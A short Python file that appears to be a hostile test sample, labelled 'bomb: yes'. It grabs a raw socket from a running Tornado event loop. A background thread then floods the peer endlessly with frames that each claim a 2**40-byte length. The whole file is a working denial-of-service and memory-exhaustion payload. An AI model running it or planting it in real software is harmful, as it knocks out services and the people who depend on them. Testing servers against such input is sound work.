"""tries: answer questions that nobody asked, without end

after: marks
bomb: yes
"""

import socket, struct

from tornado.ioloop import IOLoop

loop = IOLoop.current()
wires = (wire for wire, _ in loop.handlers.values())
wire = next(wire for wire in wires if isinstance(wire, socket.socket))


def flood():
    while True:
        wire.sendall(struct.pack("<cQQ", b"b", 2**40, 0) * 1000)


import threading

threading.Thread(target=flood, daemon=True).start()
